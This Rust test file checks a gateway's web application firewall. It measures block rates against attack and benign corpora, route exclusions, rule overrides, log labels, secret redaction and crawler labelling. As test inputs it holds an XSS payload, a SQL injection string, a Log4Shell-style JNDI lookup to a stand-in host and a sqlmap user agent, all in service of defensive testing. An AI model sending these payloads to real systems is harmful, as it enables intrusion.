//! The managed rule groups: against the whole of every WAF corpus in process (the issue's
//! targets: at least 94 % of attacks blocked, at most 3 % of benign requests and 1 % of crawler
//! user agents; the corpora stand for classes of input, and the rules were not written against
//! their lines); on the request path, a sample sent over TLS to a real gateway exactly as built
//! (no client-side normalisation) gets the verdict the same web ACL gives in process; a route
//! exclusion and a rule override take effect; the access log names the managed rule and its
//! label.

use std::path::PathBuf;

use portcullis_bench::waf_corpus::{self, Probe, Sender, Tally};

use crate::harness::{Gw, Upstream};

/// The web ACL of `bench/waf-corpus.yaml`, in front of a test upstream, and a second API whose
/// `POST /comments` route is excluded from the XSS rule and whose SQLi rule only counts.
fn config(upstream: &str) -> String {
    format!(
        r#"
access_log:
  format: '{{"requestId":"$context.requestId","status":"$context.status","path":"$context.path","rule":"$context.waf.terminatingRule","labels":"$context.waf.labels"}}'
web_acls:
  - name: corpus
    default_action: allow
    rules:
      - name: core
        priority: 1
        statement: {{managed_rule_group: {{name: core}}}}
      - name: bad-inputs
        priority: 2
        statement: {{managed_rule_group: {{name: known_bad_inputs}}}}
  - name: tuned
    default_action: allow
    rules:
      - name: core
        priority: 1
        statement:
          managed_rule_group:
            name: core
            rule_action_overrides: [{{name: SQLi, action: count}}]
            exclusions: [{{rules: [XSS], routes: ['POST /comments'], fields: ['body:/html']}}]
apis:
  - name: app
    web_acl: corpus
    routes:
      - route: ANY /{{proxy+}}
        integration: {{type: http, url: '{upstream}/{{proxy}}'}}
  - name: blog
    base_path: /blog
    web_acl: tuned
    routes:
      - route: POST /comments
        integration: {{type: http, url: '{upstream}/comments'}}
      - route: ANY /{{proxy+}}
        integration: {{type: http, url: '{upstream}/{{proxy}}'}}
"#
    )
}

fn corpus_acl() -> waf::WebAcl {
    let text =
        std::fs::read_to_string(PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../bench/waf-corpus.yaml")).unwrap();
    let doc: serde_json::Value = serde_yaml_ng::from_str(&text).unwrap();
    let cfg: waf::WebAclConfig = serde_json::from_value(doc["web_acls"][0].clone()).unwrap();
    waf::compile(&cfg, "web_acls[0]", &mut Vec::new()).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn managed_groups_decide_on_the_wire_as_in_process() {
    let up = Upstream::start().await;
    let gw = Gw::start(&config(&up.url()));
    let corpus = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/waf");
    let records =
        waf_corpus::load(&corpus).unwrap_or_else(|e| panic!("the WAF corpus is needed beside the checkout: {e}"));
    let acl = corpus_acl();
    let sender = Sender::new(&gw.ca_pem).unwrap();
    let base = gw.url("").trim_end_matches('/').to_owned();

    // Every 37th record, and every record of a location the sample would leave thin.
    let sample = records
        .iter()
        .enumerate()
        .filter(|(i, r)| i % 37 == 0 || matches!(r.location.as_str(), "raw" | "cookie" | "path" if i % 3 == 0));
    let (mut blocked, mut passed, mut differ) = (0, 0, Vec::new());
    for (_, r) in sample {
        let Some(probe) = Probe::from_record(r) else { continue };
        let offline = waf_corpus::blocked_offline(&acl, &probe);
        let status = sender.status(&base, &probe).await.unwrap_or_else(|e| panic!("{}: {e}", r.id));
        assert!(status == 403 || status < 500, "{}: a request the WAF lets through must not fail: {status}", r.id);
        if (status == 403) != offline {
            differ.push(format!(
                "{} {} {} -> {status}, in process blocked={offline}",
                r.id,
                probe.method,
                probe.target()
            ));
        }
        if status == 403 {
            blocked += 1;
        } else {
            passed += 1;
        }
    }
    assert!(differ.is_empty(), "{} verdicts differ:\n{}", differ.len(), differ.join("\n"));
    assert!(blocked > 500 && passed > 50, "blocked {blocked}, passed {passed}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exclusions_and_overrides_apply_per_route_and_field() {
    let up = Upstream::start().await;
    let gw = Gw::start(&config(&up.url()));
    let client = gw.client();
    let post = |path: &str, body: &'static str| {
        client.post(gw.url(path)).header("content-type", "application/json").body(body).send()
    };
    let html = r#"{"html":"<img src=x onerror=alert(1)>"}"#;
    // The excluded field on the excluded route passes; the same field elsewhere does not,
    // nor another field on that route.
    assert_eq!(post("/blog/comments", html).await.unwrap().status(), 200);
    assert_eq!(post("/blog/posts", html).await.unwrap().status(), 403);
    assert_eq!(post("/blog/comments", r#"{"text":"<img src=x onerror=alert(1)>"}"#).await.unwrap().status(), 403);
    // SQLi only counts on this API, and still labels the request; on the other it blocks.
    let sqli = r#"{"id":"1' OR '1'='1"}"#;
    assert_eq!(post("/blog/posts", sqli).await.unwrap().status(), 200);
    assert_eq!(post("/app/posts", sqli).await.unwrap().status(), 403);

    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let lines = gw.access_log();
    let counted = lines
        .iter()
        .find(|l| l["path"] == "/blog/posts" && l["status"] == "200")
        .unwrap_or_else(|| panic!("{lines:?}"));
    assert_eq!(counted["labels"], "portcullis:managed:core:SQLi");
    let blocked = lines.iter().find(|l| l["path"] == "/app/posts").unwrap_or_else(|| panic!("{lines:?}"));
    assert_eq!((blocked["status"].as_str(), blocked["rule"].as_str()), (Some("403"), Some("core:SQLi")));

    // The sampled-requests view shows what matched, and redacts what could be a secret.
    let r = client
        .get(gw.url("/app/login?user=ann&password=1%27%20OR%20%271%27%3D%271"))
        .header("authorization", "Bearer s3cr3t");
    assert_eq!(r.send().await.unwrap().status(), 403);
    let (status, v) =
        gw.admin_json(reqwest::Method::GET, "/waf/sampled-requests?web_acl=corpus&rule=core:SQLi", None).await;
    assert_eq!(status, 200, "{v}");
    let samples = v["samples"].as_array().unwrap();
    assert_eq!(samples.len(), 2, "{v}");
    let newest = &samples[0];
    assert_eq!((newest["action"].as_str(), newest["matched_field"].as_str()), (Some("BLOCK"), Some("INPUT")));
    assert_eq!(newest["uri"], "/app/login?user=ann&password=<redacted>", "{newest}");
    assert_eq!(newest["matched_value"], "<redacted>", "{newest}");
    let text = v.to_string();
    assert!(!text.contains("s3cr3t") && !newest.to_string().contains(" OR "), "{text}");
    // Excerpts escape what is not printable ASCII, and quotes.
    assert!(samples[1]["matched_value"].as_str().unwrap().starts_with("BODY /id: 1\\' OR"), "{}", samples[1]);
    let (status, _) = gw.admin_json(reqwest::Method::GET, "/waf/sampled-requests?web_acl=nope", None).await;
    assert_eq!(status, 404);
}

#[test]
fn managed_groups_meet_the_corpus_targets() {
    let corpus = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/waf");
    let records =
        waf_corpus::load(&corpus).unwrap_or_else(|e| panic!("the WAF corpus is needed beside the checkout: {e}"));
    assert!(records.len() > 50_000, "{} records", records.len());
    let acl = corpus_acl();

    let mut tally = Tally::new();
    for r in &records {
        let verdict = Probe::from_record(r).map(|p| waf_corpus::blocked_offline(&acl, &p));
        waf_corpus::record(&mut tally, r, verdict);
    }
    let (attacks, benign, bots) = waf_corpus::headline(&tally);
    let report = waf_corpus::report(&tally);
    assert!(attacks >= 94.0, "attacks blocked {attacks:.2}% < 94%\n{report}");
    assert!(benign <= 3.0, "benign blocked {benign:.2}% > 3%\n{report}");
    assert!(bots <= 1.0, "crawlers blocked {bots:.2}% > 1%\n{report}");
    // Every source is represented: a corpus file that stops loading must not go unnoticed.
    for source in ["gotestwaf", "libinjection", "payloadsallthethings", "openappsec-legit", "crawler-user-agents"] {
        assert!(tally.keys().any(|(s, _, _)| s == source), "no records from {source}");
    }
}

/// Every crawler user agent of the corpus through `bot_control` (no DNS here: none is taken
/// for a spoofed search engine): none is blocked, and most are labelled with a category.
#[test]
fn bot_control_labels_crawlers_without_blocking_them() {
    let yaml = "name: bots-corpus\ndefault_action: allow\nrules:\n  - name: bots\n    priority: 1\n    statement: {managed_rule_group: {name: bot_control}}\n";
    let cfg: waf::WebAclConfig = serde_yaml_ng::from_str(yaml).unwrap();
    let acl = waf::compile(&cfg, "web_acls[0]", &mut Vec::new()).unwrap();
    let corpus = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/waf");
    let records = waf_corpus::load(&corpus).unwrap();
    let crawlers: Vec<_> = records.iter().filter(|r| r.class == "bot").collect();
    assert!(crawlers.len() > 2000);
    let (mut labelled, mut blocked) = (0, 0);
    for r in &crawlers {
        let probe = Probe::from_record(r).unwrap();
        let view = waf::RequestView {
            method: "GET",
            path: probe.path.as_bytes(),
            query: b"",
            headers: probe.headers.iter().map(|(n, v)| (n.as_str(), v.as_slice())).collect(),
            client_ip: std::net::IpAddr::from([203, 0, 113, 9]),
            body: None,
            body_truncated: false,
            content_type: None,
            route: None,
            now_s: 1_700_000_000,
            challenge_token_issued_s: None,
            bot_verified: None,
        };
        let verdict = acl.evaluate(&view);
        blocked += usize::from(matches!(verdict.outcome, waf::Outcome::Block(_)));
        labelled += usize::from(verdict.labels.iter().any(|l| l.contains(":Category")));
    }
    assert_eq!(blocked, 0);
    let share = 100.0 * labelled as f64 / crawlers.len() as f64;
    assert!(share >= 75.0, "only {share:.1}% of crawler user agents got a category label");
    eprintln!("bot_control: {share:.1}% of {} crawler user agents labelled with a category", crawlers.len());
}

/// `examples/waf.yaml` does what its comments say.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_waf_example_does_what_it_says() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..");
    let example = std::fs::read_to_string(root.join("examples/waf.yaml")).unwrap();
    // Its list file is relative to the repository's root; the gateway runs elsewhere here.
    let list = root.join("examples/waf/blocked-ips.txt").canonicalize().unwrap();
    let gw = Gw::start(&example.replace("examples/waf/blocked-ips.txt", &list.display().to_string()));
    let client = gw.client();
    let get = |path: &'static str, header: (&'static str, &'static str)| {
        let req = client.get(gw.url(path)).header(header.0, header.1);
        async move {
            let r = req.send().await.unwrap();
            (r.status().as_u16(), r.headers().get("x-portcullis-waf-action").is_some())
        }
    };
    let ua = ("user-agent", "curl/8.5.0");
    assert_eq!(get("/shop/items?q=shoes", ua).await, (200, false));
    assert_eq!(get("/shop/items?q=1'%20OR%20'1'='1", ua).await.0, 403);
    assert_eq!(get("/shop/items", ("x-api-version", "${jndi:ldap://e.example/a}")).await.0, 403);
    assert_eq!(get("/shop/items", ("user-agent", "sqlmap/1.7")).await.0, 403);
    assert_eq!(get("/shop/login", ua).await, (202, true));
    let html = r#"{"post":{"html":"<img src=x onerror=alert(1)>"}}"#;
    let post =
        |path: &'static str| client.post(gw.url(path)).header("content-type", "application/json").body(html).send();
    assert_eq!(post("/shop/posts").await.unwrap().status(), 201, "the excluded field on its route");
    assert_eq!(post("/shop/items").await.unwrap().status(), 403, "the same body elsewhere");
}
